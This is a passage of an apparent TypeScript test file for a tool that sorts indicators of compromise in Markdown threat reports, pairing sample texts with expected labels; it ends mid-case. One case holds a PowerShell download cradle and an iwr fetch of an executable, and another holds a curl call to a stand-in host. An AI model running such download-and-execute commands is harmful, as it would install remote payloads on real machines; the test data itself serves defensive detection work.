export const HASH = '5e72f0741d29914843c91b9daed3256c5c5e8c73f8a7cbfc20cb8a9c06775833';
const MD5 = '0a0c43726fd256ad827f4108bdf5e772';

/** A short text with the verdict of some of its values, "+" for to_ids. */
export interface VerdictCase {
  name: string;
  markdown: string;
  want: Record<string, string | undefined>;
}

export const CASES: readonly VerdictCase[] = [
  {
    name: 'defanged prose is detection, links of the same sentence are references',
    markdown:
      'It calls hxxps://evil-cdn[.]com/api (see [VirusTotal](<https://www.virustotal.com/gui/file/abc>)) at 45[.]9[.]148[.]114:4444.',
    want: {
      'https://evil-cdn.com/api': 'indicator+',
      '45.9.148.114:4444': 'indicator+',
      'https://www.virustotal.com/gui/file/abc': 'reference',
    },
  },
  {
    name: 'a table of plain indicators under its heading',
    markdown: `## Indicators of Compromise\n\n| Type | Value |\n| --- | --- |\n| Domain | update-check.top |\n| URL | http://update-check.top/gate.php |\n| IP | 91.92.240.11 |\n| SHA256 | ${HASH} |\n| Email | support@pay-fast.biz |\n`,
    want: {
      'update-check.top': 'indicator+',
      'http://update-check.top/gate.php': 'indicator+',
      '91.92.240.11': 'indicator+',
      [HASH]: 'indicator+',
      'support@pay-fast.biz': 'indicator+',
    },
  },
  {
    name: 'headings of other languages announce indicators, too',
    markdown:
      '## 침해 지표\n\n- plain-host.top\n\n## 附录\n\n- other-host.top\n\n## 侵害指標\n\n- third-host.top\n\n## Indicateurs de compromission\n\n- fourth-host.top',
    want: {
      'plain-host.top': 'indicator+',
      'other-host.top': 'indicator+',
      'third-host.top': 'indicator+',
      'fourth-host.top': 'indicator+',
    },
  },
  ...[
    ['El malware espera.', 'Dominio'],
    ['O malware espera.', 'Domínio'],
    ['Le logiciel malveillant attend.', 'Domaine'],
    ['Złośliwe oprogramowanie czeka.', 'Domena'],
    ['Zararlı yazılım bekler.', 'Alan adı'],
  ].map(([threat, column]) => ({
    name: `a column of hosts in a report: "${column}"`,
    markdown: `${threat}\n\n| ${column} | X |\n| --- | --- |\n| plain-host.top | Y |`,
    want: { 'plain-host.top': 'indicator+' },
  })),
  {
    name: 'an address that the words before it accuse counts, although its author defangs others',
    markdown:
      'The malware downloads its second stage from http://plain-host.top/a.css at night; see http://other-host.org/a.\n\n木马随后下载载荷，下载地址为：http://third-host.top/b.css，并加载执行。\n\n## IOCs\n\n- hxxp://evil-host[.]top/gate',
    want: {
      'http://plain-host.top/a.css': 'indicator',
      'http://other-host.org/a': 'reference',
      'http://third-host.top/b.css': 'indicator',
      'http://evil-host.top/gate': 'indicator+',
    },
  },
  {
    name: 'endings that are words count only where hosts are listed',
    markdown:
      '## IOCs\n\n- evil.services\n- bad-domain.systems\n\n## Analysis\n\nThe class foo.services calls module.run and reads README.md.',
    want: {
      'evil.services': 'indicator+',
      'bad-domain.systems': 'indicator+',
      'foo.services': 'junk',
      'module.run': 'junk',
      'README.md': 'junk',
    },
  },
  {
    name: 'a column of domains makes a domain of what looks like a file',
    markdown:
      'The botnet was run by a threat actor.\n\n| Domain | First seen |\n| --- | --- |\n| get.sh | 2024 |\n\n| File name | Size |\n| --- | --- |\n| run.sh | 4 kB |',
    want: { 'get.sh': 'indicator+', 'run.sh': 'junk' },
  },
  {
    name: 'what nobody owns is junk',
    markdown:
      'Addresses 10.0.0.5, 127.0.0.1:8118, 192.168.1.1, 169.254.169.254, 203.0.113.9, 0.0.0.0, 255.255.255.255 and fe80::1:2:3, http://10.1.1.1/a and http://localhost:8080/ on example.com.',
    want: {
      '10.0.0.5': 'junk',
      '127.0.0.1:8118': 'junk',
      '192.168.1.1': 'junk',
      '169.254.169.254': 'junk',
      '203.0.113.9': 'junk',
      '0.0.0.0': 'junk',
      '255.255.255.255': 'junk',
      'fe80::1:2:3': 'junk',
      'http://10.1.1.1/a': 'junk',
      'http://localhost:8080/': 'junk',
      'example.com': 'junk',
    },
  },
  {
    name: 'versions are told from addresses by their words',
    markdown: 'FortiOS 7.2.0.1 and earlier, version 45.9.148.1, Chrome/45.9.148.2, build: 45.9.148.3; the server 45.9.148.4 answered.',
    want: { '7.2.0.1': 'junk', '45.9.148.1': 'junk', '45.9.148.2': 'junk', '45.9.148.3': 'junk', '45.9.148.4': 'indicator' },
  },
  {
    name: 'beside a version that cannot be an address, what begins like it is one, too',
    markdown: 'The malware asks 13.7.2.28. Backup & Replication 13.0.2.29 brings the repaired agent 13.0.3.1220.',
    want: { '13.7.2.28': 'indicator', '13.0.2.29': 'junk' },
  },
  {
    name: 'a file in the words of a cell under a heading with hosts is no host, one alone in a column of domains is',
    markdown:
      'The malware.\n\n## Host artifacts\n\n| Kind | Notes |\n| --- | --- |\n| Task | Runs Knot52.py as SYSTEM |\n\n## C2\n\n| Domain |\n| --- |\n| plover.sh |\n',
    want: { 'Knot52.py': 'junk', 'plover.sh': 'indicator+' },
  },
  {
    name: 'a file in a line of a program under a lead-in is no host',
    markdown:
      'The malware protected this URL and needs a user agent to get the content:\n\n```\nplace = os.path.join(os.getenv("APPDATA"), "knot.py")\n```\n',
    want: { 'knot.py': 'junk' },
  },
  {
    name: 'public resolvers and the edges of a listed network are not indicators',
    markdown: 'It asks 8.8.8.8 and 1.1.1.1. It scans 134.122.0.0/16, that is 134.122.0.0 to 134.122.255.255.',
    want: {
      '8.8.8.8': 'reference',
      '1.1.1.1': 'reference',
      '134.122.0.0/16': 'indicator',
      '134.122.0.0': 'reference',
      '134.122.255.255': 'reference',
    },
  },
  {
    name: 'the id of a session is not the hash of a file',
    markdown:
      'The malware asks its server:\n\n```\nCookie: PHPSESSID=8b3f2c1d4e5f60718293a4b5c6d7e8f9; session_id=2b3f2c1d4e5f60718293a4b5c6d7e8f9\nmd5=3b3f2c1d4e5f60718293a4b5c6d7e8f9\n```',
    want: {
      '8b3f2c1d4e5f60718293a4b5c6d7e8f9': 'context',
      '2b3f2c1d4e5f60718293a4b5c6d7e8f9': 'context',
      '3b3f2c1d4e5f60718293a4b5c6d7e8f9': 'indicator+',
    },
  },
  {
    name: 'a fingerprint of a certificate or a server is not the hash of a file',
    markdown: `The backdoor's settings:\n\n\`\`\`\nServer: 91.215.85.61\nPort: 8443\nCertificate SHA1: 8b3f2c1d4e5f60718293a4b5c6d7e8f901234567\n\`\`\`\n\n## Indicators of compromise\n\n- SSL thumbprint (SHA-1): 2b3f2c1d4e5f60718293a4b5c6d7e8f901234567\n- JARM: 27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d\n- SHA1: 3b3f2c1d4e5f60718293a4b5c6d7e8f901234567`,
    want: {
      '91.215.85.61': 'indicator+',
      '8b3f2c1d4e5f60718293a4b5c6d7e8f901234567': 'context',
      '2b3f2c1d4e5f60718293a4b5c6d7e8f901234567': 'context',
      '27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d': 'context',
      '3b3f2c1d4e5f60718293a4b5c6d7e8f901234567': 'indicator+',
    },
  },
  {
    name: 'stars that hide a part of a name are not emphasis, and what is left of a name at a provider is context',
    markdown:
      'The malware asks pan***.fellmoor[.]com/x, hxxps://***gate.quillnet[.]org/a.php and [REDACTED].blob.core.windows[.]net, and **bad.example-evil[.]com**/y.',
    want: {
      'fellmoor.com': 'indicator+',
      'quillnet.org': 'indicator+',
      'blob.core.windows.net': 'context',
      'bad.example-evil.com': 'indicator+',
    },
  },
  {
    name: 'a Tor service in prose is the attackers’',
    markdown: 'The ransomware sends its victims to expyuzz4wqqyqhjn.onion by evil[.]com.',
    want: { 'expyuzz4wqqyqhjn.onion': 'indicator+' },
  },
  {
    name: 'well-known services: a reference when plain, context when defanged, an indicator when a file on them is defanged',
    markdown:
      'See https://github.com/acme/tool and google.com. It tests www[.]google[.]com, asks api[.]ipify[.]org and loads hxxps://raw.githubusercontent[.]com/bad/repo/a.ps1 and hxxps://x.duckdns[.]org.',
    want: {
      'https://github.com/acme/tool': 'reference',
      'google.com': 'reference',
      'www.google.com': 'context',
      'api.ipify.org': 'context',
      'https://raw.githubusercontent.com/bad/repo/a.ps1': 'indicator+',
      'https://x.duckdns.org': 'indicator+',
    },
  },
  {
    name: "the site's own names are references",
    markdown:
      'Read acme-labs.com or https://www.acme-labs.com/blog/two; write to research@acme-labs.com or team@acme-labs.co.uk. C2: evil[.]com',
    want: {
      'acme-labs.com': 'reference',
      'https://www.acme-labs.com/blog/two': 'reference',
      'research@acme-labs.com': 'reference',
      'team@acme-labs.co.uk': 'reference',
      'evil.com': 'indicator+',
    },
  },
  {
    name: 'mailboxes: of criminals, of contacts, of agencies',
    markdown:
      'The attackers sent ransomware. Write to badguy@protonmail.com. Contact tips@vendor-sec.com or submit@cert.gov. Mails came from hr@fake-company.com. For more, email desk[at]partner.co.uk. Ransom notes name boss[@]evil[.]top.',
    want: {
      'badguy@protonmail.com': 'indicator+',
      'tips@vendor-sec.com': 'reference',
      'submit@cert.gov': 'reference',
      'hr@fake-company.com': 'indicator',
      'desk@partner.co.uk': 'reference',
      'boss@evil.top': 'indicator+',
    },
  },
  {
    name: 'references stay references also as a list',
    markdown: '## IOCs\n\n- evil[.]com\n\n## References\n\n1. https://www.some-vendor.io/blog/post\n2. evil-looking-blog.com',
    want: { 'evil.com': 'indicator+', 'https://www.some-vendor.io/blog/post': 'reference', 'evil-looking-blog.com': 'reference' },
  },
  {
    name: 'providers and brands in a sentence',
    markdown: 'C2: 45[.]9[.]148[.]114. The domain bad-host.top was registered at imena.ua and sold as Booking.com, says Snort.org.',
    want: {
      '45.9.148.114': 'indicator+',
      'bad-host.top': 'indicator',
      'imena.ua': 'reference',
      'booking.com': 'reference',
      'snort.org': 'reference',
    },
  },
  {
    name: 'a host left plain by an author who defangs hosts is not meant; one that is listed elsewhere is',
    markdown: 'C2s are a-host[.]top and b-host[.]top. We thank helpful-site.io. Again, a-host.top answers.',
    want: { 'a-host.top': 'indicator+', 'b-host.top': 'indicator+', 'helpful-site.io': 'reference' },
  },
  {
    name: 'a mailbox of a sharing service is the service’s, one on a host of the attackers is theirs',
    markdown:
      'The files are at hxxps://transfer[.]sh/a1b2/x.zip and a-host[.]top. We told abuse@transfer.sh. They write as boss@a-host.top.',
    want: { 'abuse@transfer.sh': 'reference', 'boss@a-host.top': 'indicator+' },
  },
  {
    name: 'the user of a server for source code is no mailbox',
    markdown: 'The tool of the attackers came from their server c2.a-host[.]top:\n\n```\ngit clone git@code.b-host.net:tools/x.git\n```',
    want: { 'git@code.b-host.net': 'junk', 'c2.a-host.top': 'indicator+' },
  },
  {
    name: 'plain hosts of a page that shows no indicators are names',
    markdown: 'The outage of some-shop.com was long, says other-shop.net.',
    want: { 'some-shop.com': 'reference', 'other-shop.net': 'reference' },
  },
  {
    name: 'hashes: files, keys, commits, the empty file',
    markdown: `Sample ${HASH}. The AES key is ${MD5}. Fixed in commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c6. Empty: d41d8cd98f00b204e9800998ecf8427e.`,
    want: {
      [HASH]: 'indicator+',
      [MD5]: 'context',
      '3e38c1cde0d7e40d9b498e352dbbc8f148fa83c6': 'junk',
      d41d8cd98f00b204e9800998ecf8427e: 'junk',
    },
  },
  {
    name: 'metadata of rules is not an indicator, their strings are',
    markdown: `\`\`\`\nrule X {\n meta:\n  author = "a@b-team.com"\n  reference = "https://blog.some-vendor.io/x"\n  hash = "${MD5}"\n strings:\n  $a = "http://45.9.148.1/gate.php"\n}\n\`\`\`\n\n\`\`\`yaml\nreferences:\n  - https://blog.other-vendor.io/y\ndetection:\n  DestinationHostname: c2.evil-host.top\n\`\`\``,
    want: {
      'a@b-team.com': 'reference',
      'https://blog.some-vendor.io/x': 'reference',
      [MD5]: 'indicator+',
      'http://45.9.148.1/gate.php': 'indicator+',
      'https://blog.other-vendor.io/y': 'reference',
      'c2.evil-host.top': 'indicator',
    },
  },
  {
    name: 'commands and dumps',
    markdown:
      "```\n$c.DownloadString('http://45.9.148.1/p.ps1'); iwr https://cdn.discordapp.com/attachments/1/2/x.exe\nGET /index.html HTTP/1.1\nUser-Agent: Mozilla/5.0 (Windows NT 10.0) Chrome/99.0.4844.51 (+http://www.google.com/bot.html)\n```",
    want: {
      'http://45.9.148.1/p.ps1': 'indicator+',
      'https://cdn.discordapp.com/attachments/1/2/x.exe': 'indicator',
      'index.html': 'reference',
      'http://www.google.com/bot.html': 'reference',
    },
  },
  {
    name: 'property chains in code are not hosts, hosts with a word as top-level domain are',
    markdown:
      'The botnet asks its C2.\n\n```\nC2: 45.9.148.7\nconsole.log(e.data.id, user.email); ./kinsd -o pool.tidewater-mining.pro:3333; curl evil-host.world\n```',
    want: { 'e.data.id': 'junk', 'user.email': 'junk', 'pool.tidewater-mining.pro': 'indicator', 'evil-host.world': 'indicator' },
  },
  {
    name: 'the words beside a value: accused, vouched for, pointed to',
    markdown:
      'It calls a-host[.]top and b-host[.]top. The domain "plain-host.site" and api.thanks-to.io; exfiltration by api[.]mailer-x[.]com (legitimate service).\n\n## IOCs\n\nThe full list can be found in our repository:\nhttps://lists.some-vendor.com/iocs.csv\n\nhttp://raw-host.top/gate.php',
    want: {
      'plain-host.site': 'indicator',
      'api.thanks-to.io': 'reference',
      'api.mailer-x.com': 'context',
      'https://lists.some-vendor.com/iocs.csv': 'reference',
      'http://raw-host.top/gate.php': 'indicator+',
    },
  },
  {
    name: 'an author who never defangs: plain addresses are shown, links and footnotes are references',
    markdown: `It downloads http://raw-host.top/gate.php and drops ${HASH}. More at <https://blog.some-vendor.net/post>.\n\n[1] https://papers.some-site.net/x`,
    want: {
      'http://raw-host.top/gate.php': 'indicator',
      'https://blog.some-vendor.net/post': 'reference',
      'https://papers.some-site.net/x': 'reference',
    },
  },
  {
    name: 'an address that is a link to itself is a reference',
    markdown: 'It calls evil[.]com. More: <https://some-blog.net/a.zip>.',
    want: { 'https://some-blog.net/a.zip': 'reference' },
  },
  {
    name: 'offices and registrants in a dump',
    markdown: 'The phishing site of the attackers:\n\n```\nabuse-mailbox: abuse@nice-hosting.com\ne-mail: registrant@gmail.com\n```',
    want: { 'abuse@nice-hosting.com': 'reference', 'registrant@gmail.com': 'indicator+' },
  },
  {
    name: 'vulnerabilities and techniques are context',
    markdown: 'CVE-2021-44228 and T1059.001, T1105.',
    want: { 'CVE-2021-44228': 'context', 'T1059.001': 'context', T1105: 'context' },
  },
  {
    name: 'what is only linked is a reference',
    markdown: 'See [the sample](<http://evil-host.top/a.exe>) and ![evil-picture.top](<https://evil-picture.top/x.png>).',
    want: { 'http://evil-host.top/a.exe': 'reference' },
  },
  {
    name: 'a linked hash is the hash',
    markdown: `- [${HASH}](<https://www.virustotal.com/gui/file/${HASH}>)`,
    want: { [HASH]: 'indicator+', [`https://www.virustotal.com/gui/file/${HASH}`]: 'reference' },
  },
  {
    name: 'a hash that is shortened where it is shown stands in the link to a sandbox, a number there is that of a footnote',
    markdown: `The malware (samples [${HASH.slice(0, 10)}…](<https://bazaar.abuse.ch/sample/${HASH}/>), [12](<https://bazaar.abuse.ch/sample/${HASH.replace('5', '6')}/>)) waits.`,
    want: { [HASH]: 'indicator', [HASH.replace('5', '6')]: undefined },
  },
  {
    name: 'the same address with and without scheme is one, unless both are defanged',
    markdown: 'It loads hxxp://evil[.]com/a.dat.\n\n```\nverify evil.com/a.dat\n```\n\nhxxp://other[.]com/b and other[.]com/b',
    want: { 'http://evil.com/a.dat': 'indicator+', 'http://other.com/b': 'indicator+', 'other.com/b': 'indicator+' },
  },
  {
    name: 'a wide network is shown, not detected',
    markdown: '## IOCs\n\n- 45.128.0.0/12\n- 45.9.148.0/24',
    want: { '45.128.0.0/12': 'indicator', '45.9.148.0/24': 'indicator+' },
  },
  {
    name: 'the home of a tool in a column of user agents',
    markdown:
      'Malware.\n\n## Atomic indicators\n\n| Indicator | Type |\n| --- | --- |\n| S3 Plover 9.5 s3plover.com | UA |\n| plover.top | Domain |',
    want: { 's3plover.com': 'reference', 'plover.top': 'indicator+' },
  },
  {
    name: 'a name that links to its own site is where the reader is sent',
    markdown:
      'The malware is packed with a product of [acme-packer.io](<https://acme-packer.io/>). It calls 45.9.148.7.\n\n## IOCs\n\n- 45.9.148.7',
    want: { 'acme-packer.io': 'reference' },
  },
  {
    name: 'names below or above a host that is defanged elsewhere are the same attackers’',
    markdown:
      'It calls evil-plover[.]com, hxxps://www[.]tern[.]help/a and hxxps://files[.]heron-cdn[.]com/b. Later cdn.evil-plover.com showed a login page, tern.help imitates a product, and they own heron-cdn.com.',
    want: { 'cdn.evil-plover.com': 'indicator+', 'tern.help': 'indicator+', 'heron-cdn.com': 'indicator+' },
  },
  {
    name: 'the value of a key that names the control server detects',
    markdown: 'Malware.\n\n```json\n{ "sleep": 60, "c2": "plover-panel.org", "update": "https://vendor.example.org/" }\n```',
    want: { 'plover-panel.org': 'indicator+' },
  },
  {
    name: 'a host with a port is not a reference, also where the author defangs others',
    markdown: 'The malware calls evil-plover[.]com and gull[.]top. It has backup-plover.org:8443 as a fallback.',
    want: { 'backup-plover.org': 'indicator' },
  },
  {
    name: 'pages of well-known services, disguised: of the service itself, of its users, called legitimate',
    markdown:
      'Malware opens hxxps://www.oracle[.]com/java, hxxps://www.google[.]com/ and hxxps://tern-shop[.]org/a (legitimate), then hxxps://www.dropbox[.]com/s/abc/x.zip.',
    want: {
      'https://www.oracle.com/java': 'context',
      'https://www.google.com/': 'context',
      'https://tern-shop.org/a': 'context',
      'https://www.dropbox.com/s/abc/x.zip': 'indicator+',
    },
  },
  {
    name: 'a URL with a placeholder is not for detection',
    markdown:
      'Malware.\n\n## IOCs\n\n- http://plover.top/{random}.php\n- hxxp://plover[.]top/[REDACTED]\n- hxxp://plover[.]top/u/REDACTED/a\n- hxxp://REDACTED.plover[.]top/b\n- hxxp://REDACTED@plover[.]top/b\n- https://t.me/ploverbot\n- plover.top',
    want: {
      'http://plover.top/{random}.php': 'indicator',
      'http://plover.top/[REDACTED]': 'indicator',
      'http://plover.top/u/REDACTED/a': 'indicator',
      'http://redacted.plover.top/b': 'indicator',
      'http://REDACTED@plover.top/b': 'indicator',
      'https://t.me/ploverbot': 'indicator+',
    },
  },
  {
    name: 'a comma ends a URL where the next host follows',
    markdown: 'Malware.\n\n## IOCs\n\n- hxxp://plover[.]top/a,b.php\n- hxxp://gull[.]top/a,tern.top/b',
    want: { 'http://plover.top/a,b.php': 'indicator+', 'http://gull.top/a': 'indicator+' },
  },
  {
    name: 'names with an underscore are nobody’s domain',
    markdown: 'Malware.\n\n## IOCs\n\n- http___plover.top/a\n- _dmarc.gull.top',
    want: { 'http___plover.top/a': undefined, '_dmarc.gull.top': 'indicator+' },
  },
  {
    name: 'an address that stands for any is nobody’s, also in a URL',
    markdown: 'The malware fetches http://1.2.3.4/x.bin or the like; this one fetched http://45.9.148.7/x.bin.',
    want: { 'http://1.2.3.4/x.bin': 'junk', 'http://45.9.148.7/x.bin': 'indicator+' },
  },
  {
    name: 'a path on an address without its scheme',
    markdown: 'The malware fetches 45.9.148.7/plover.sh and runs it.',
    want: { '45.9.148.7/plover.sh': 'indicator+' },
  },
  {
    name: 'mailboxes of the site, of the authors of rules and of offices below a list of indicators',
    markdown:
      'Malware.\n\n## Indicators\n\n- plover@tern-mail.org\n- labs@acme-labs.com\n- report@cyber.gov\n- [press@gull-news.org](<mailto:press@gull-news.org>)\n\n```\nmeta:\n  author = "jo@rules-of-gull.org"\n```',
    want: {
      'plover@tern-mail.org': 'indicator+',
      'labs@acme-labs.com': 'reference',
      'report@cyber.gov': 'reference',
      'jo@rules-of-gull.org': 'reference',
    },
  },
  {
    name: 'release notes that speak of attackers: revisions, helpers, repositories',
    markdown: [
      'An attacker could exploit CVE-2021-44228; the malicious file is refused now.',
      '- Reverts 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c1, introduced by 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c2',
      '- Follow-up of commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c3 and commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c4',
      '- Reported by Umut <umut77@gmx.de>',
      'The list is kept by Jane M Doe <jane.doe@gmail.com>.',
      '- Merge branch of git://anon.some-forge.org/x/lib',
    ].join('\n\n'),
    want: {
      'umut77@gmx.de': 'reference',
      'jane.doe@gmail.com': 'reference',
      'git://anon.some-forge.org/x/lib': 'reference',
    },
  },
  {
    name: 'a SHA-1 in a sentence on a page about no threat is a revision, in a column of SHA-1 it is a hash',
    markdown:
      'The build of today is 7d122d5cde0d7e40d9b498e352dbbc8f148fa83c.\n\n| File | SHA1 |\n| --- | --- |\n| plover.pdf | 9a38c1cde0d7e40d9b498e352dbbc8f148fa83cf |',
    want: { '7d122d5cde0d7e40d9b498e352dbbc8f148fa83c': 'junk', '9a38c1cde0d7e40d9b498e352dbbc8f148fa83cf': 'indicator+' },
  },
  {
    name: 'what the malware compares with, decoys and what a query leaves out are nobody of the attackers',
    markdown: [
      'The trojan steals files.\n\n## C2 communication\n\nIt walks through its C2 domains, three at a time:\n\n```\nplover-one.ru\n```',
      '- If the answer contains any of these strings, it waits:\n\n```\n91.92.240.11\n```',
      '## Placeholder URLs\n\n```\nhxxps[:]//tern[.]com\n```',
      '## Hunting\n\n```\nwhere not(RemoteUrl has_any ("gull.com", "cdn.gull.com"))\n```',
    ].join('\n\n'),
    want: {
      'plover-one.ru': 'indicator+',
      '91.92.240.11': 'reference',
      'https://tern.com': 'context',
      'gull.com': 'reference',
      'cdn.gull.com': 'reference',
    },
  },
  {
    name: 'mailboxes of a message, of its victim and author, and of a certificate',
    markdown:
      'Author: Jo Plover | jo.plover@gmail.com\n\nThe victim ann.tern@hotmail.com opened the malware.\n\n- **Sender:** plover@tern-mail.top\n- **Recipient:** jo@gull-works.org\n- **Message-ID:** 20250512014532.63FE56B89701F86C@gull-relay[.]com\n\nThe malware uses:\n\n```\nIssuer: C=11, O=11, CN=11/emailAddress=11@qq.com\n```',
    want: {
      'jo.plover@gmail.com': 'reference',
      'ann.tern@hotmail.com': 'reference',
      'jo@gull-works.org': 'reference',
      '20250512014532.63fe56b89701f86c@gull-relay.com': 'junk',
      '11@qq.com': 'context',
    },
  },
  {
    name: 'a property of a browser, and a page of a public body that was broken into',
    markdown:
      'The malware sends `window.location.host` to its server.\n\n## IOCs\n\nDownloader URLs:\n\n```\nhttps://plover.go.th/isua/\nwindow.location.host\n```',
    want: { 'window.location.host': 'junk', 'https://plover.go.th/isua/': 'indicator+' },
  },
  {
    name: 'a URL that the author cut short is not for detection',
    markdown:
      '## IOCs\n\n- hxxp://plover-a[.]net/long/way …\n- hxxp://plover-b[.]net/a[...]\n- hxxp://plover-c[.]net/a(…)\n- hxxp://plover-d[.]net/a',
    want: {
      'http://plover-a.net/long/way': 'indicator',
      'http://plover-b.net/a': 'indicator',
      'http://plover-c.net/a': 'indicator',
      'http://plover-d.net/a': 'indicator+',
    },
  },
  {
    name: 'a cell beside a host says whose it is',
    markdown:
      '## IOCs\n\n| Domain | Role |\n| --- | --- |\n| plover-one.net | C2 |\n| gull-works.org | Victim |\n| tern-watch.net | sinkhole |\n| heron-post.com | legitimate, impersonated |',
    want: { 'plover-one.net': 'indicator+', 'gull-works.org': 'reference', 'tern-watch.net': 'reference', 'heron-post.com': 'reference' },
  },
  {
    name: 'a cell that is nothing but a verdict holds for a hash',
    markdown: `The malware.\n\n| SHA-256 | Name | Verdict |\n| --- | --- | --- |\n| ${HASH} | tern.dll | Legitimate |\n| ${[...HASH].reverse().join('')} | gull.dll | Legitimate tool, abused |`,
    want: { [HASH]: 'context', [[...HASH].reverse().join('')]: 'indicator+' },
  },
  {
    name: 'a defanged sinkhole, and the ETag of a server',
    markdown: `The malware’s domain plover[.]top was sinkholed by us to 45.140.90[.]1; the server’s ETag was "${MD5}".`,
    want: { 'plover.top': 'indicator+', '45.140.90.1': 'context', [MD5]: 'context' },
  },
  {
    name: 'the two ends of a range are no addresses of their own',
    markdown: '## IOCs\n\n- 85.93.61.0 - 85.93.61.255\n- 85.93.62[.]0 – 85.93.63[.]255\n- 85.93.64.7 - second server',
    want: {
      '85.93.61.0': 'reference',
      '85.93.61.255': 'reference',
      '85.93.62.0': 'reference',
      '85.93.63.255': 'reference',
      '85.93.64.7': 'indicator+',
    },
  },
  {
    name: 'a defanged source under references is cited, unless it is listed as hostile',
    markdown:
      '## IOCs\n\n- hxxps://plover-a[.]net/a\n\n| Domain | Reference |\n| --- | --- |\n| tern-c2[.]com | hxxps://gull-blog[.]com/z |\n\n## References\n\n- `hxxps[://]gull-works[.]org/report`\n- hxxps://plover-a[.]net/b',
    want: {
      'https://plover-a.net/a': 'indicator+',
      'tern-c2.com': 'indicator+',
      'https://gull-blog.com/z': 'reference',
      'https://gull-works.org/report': 'reference',
      'https://plover-a.net/b': 'indicator+',
    },
  },
  {
    name: 'a host with a capital is a brand where the author defangs',
    markdown: 'The C2 was tern-c2[.]com.\n\nHunt for the following domains:\n\n- plover-a[.]net\n- Heron.io redirects before downloads',
    want: { 'plover-a.net': 'indicator+', 'heron.io': 'reference' },
  },
  {
    name: 'a service that keeps files is not hostile for one file on it',
    markdown:
      'The stealer uploads to hxxps://store8.gofile[.]io/uploadFile after it asked api.gofile.io/servers.\n\nIt styles its page with hxxps://fonts.googleapis[.]com/css?family=Open',
    want: {
      'https://store8.gofile.io/uploadFile': 'indicator+',
      'api.gofile.io/servers': 'reference',
      'https://fonts.googleapis.com/css?family=Open': 'context',
    },
  },
  {
    name: 'a label that only says where something is hosted',
    markdown: 'The malware drops a backdoor.\n\nHosted at:\n\n```\nhttps://pub-6264808.r2.dev/\n```',
    want: { 'https://pub-6264808.r2.dev/': 'indicator+' },
  },
  {
    name: 'services and real names in other languages',
    markdown:
      '## Indicateurs de compromission\n\n| Domaine | Description |\n| --- | --- |\n| plover-leaks[.]com | Portail de fuite |\n| tern-notes[.]com | Service de notes légitime abusé |\n\n## Indicadores\n\n- `gull-typo[.]com` (el dominio real es `gull-works.org`)',
    want: { 'plover-leaks.com': 'indicator+', 'tern-notes.com': 'context', 'gull-typo.com': 'indicator+', 'gull-works.org': 'reference' },
  },
  {
    name: 'what the label of its line denies is no indicator, also on the next line of a list in code',
    markdown:
      '## IOCs\n\n- plover-leak[.]net\n\n**Infrastructure (context, not host IOCs):** the contract asks `rpc.tern-chain[.]com` and `gull-rpc[.]io`.\n\n```\n相关域名（非 IOC，不可封禁）：up.heron-works.com、\ncdn.heron-works.net\n域名：grebe-c2.net\n```',
    want: {
      'plover-leak.net': 'indicator+',
      'rpc.tern-chain.com': 'context',
      'gull-rpc.io': 'context',
      'up.heron-works.com': 'reference',
      'cdn.heron-works.net': 'reference',
      'grebe-c2.net': 'indicator+',
    },
  },
  {
    name: 'targets and victims in a row are context when they are defanged',
    markdown:
      '## IOCs\n\n| Type | Value | Role |\n| --- | --- | --- |\n| C2 IP | `45.61.163[.]8` | Command server |\n| Target IP | `45.61.2[.]8` | resolution of the site |\n| Network | `45.61.2[.]0/24` | BGP hijack target |\n| Domain | `gull-works[.]org` | Victim |',
    want: { '45.61.163.8': 'indicator+', '45.61.2.8': 'context', '45.61.2.0/24': 'context', 'gull-works.org': 'context' },
  },
  {
    name: 'names below a file service are its own, those below a service for tests a customer’s',
    markdown: '## IOCs\n\n```\ntern-c2.com\nupload.gofile.io\nx7f3k9.webhook.site\n```',
    want: { 'tern-c2.com': 'indicator+', 'upload.gofile.io': 'context', 'x7f3k9.webhook.site': 'indicator+' },
  },
  {
    name: 'a product in prose has its own site in brackets; what is listed as well is an indicator',
    markdown:
      'The malware starts a tool called Tern Wallpaper (hxxps://ternwallpaper[.]heron-works[.]cn/), asks Grebe (api.grebe[.]net, cdn.grebe[.]net) and sends to gull-c2[.]net. The panel is called Plover (plover[.]top).\n\n## IOCs\n\n- plover[.]top',
    want: {
      'https://ternwallpaper.heron-works.cn/': 'context',
      'api.grebe.net': 'context',
      'cdn.grebe.net': 'context',
      'gull-c2.net': 'indicator+',
      'plover.top': 'indicator+',
    },
  },
  {
    name: 'a cell that says of what release a hash is: a clean one',
    markdown: `## IOCs\n\n| Hash | Note |\n| --- | --- |\n| ${HASH} | v1.7.3 CRX, malicious |\n| ${MD5} | v1.7.2 CRX, clean predecessor |`,
    want: { [HASH]: 'indicator+', [MD5]: 'context' },
  },
  {
    name: 'legitimate services are context, also where they are abused for C2',
    markdown:
      '## Indicators of Compromise\n\n### Network (legitimate services abused for C2)\n\n- hxxps://upload.tern-registry[.]org/legacy/\n\n### Network (compromised legitimate sites)\n\n- hxxps://gull-bakery[.]org/wp-content/a.php',
    want: { 'https://upload.tern-registry.org/legacy/': 'context', 'https://gull-bakery.org/wp-content/a.php': 'indicator+' },
  },
  {
    name: 'a row that calls its value a key or token, whatever else it says',
    markdown: `## IOCs\n\n| Type | Indicator | Notes |\n| --- | --- | --- |\n| Victim Token | ${HASH} | one per build |\n| File | ${MD5} | loader |`,
    want: { [HASH]: 'context', [MD5]: 'indicator+' },
  },
  {
    name: 'what its own line, entry or row denies is context, a hash wherever it stands',
    markdown: `## Sample\n\n| Field | Value |\n| --- | --- |\n| SHA-256 | ${HASH} |\n| MD5 | ${MD5} |\n\n## IOCs\n\n| Indicator | Detail |\n| --- | --- |\n| 45.61.163[.]8 | C2 on a legitimate service |\n| 162.159.36[.]4 | DNS lookup of the sandbox, not malicious |\n\n\`\`\`\nC2   grebe-c2[.]net : 443\nDNS  ns.heron-works[.]net : 53   (benign infrastructure)\n(clean)   ${HASH}  updater.exe — DO NOT BLOCK\n\`\`\``,
    want: {
      [HASH]: 'context',
      [MD5]: 'indicator+',
      '45.61.163.8': 'indicator+',
      '162.159.36.4': 'context',
      'grebe-c2.net': 'indicator+',
      'ns.heron-works.net': 'context',
    },
  },
  {
    name: 'names that only look legitimate are the attackers’',
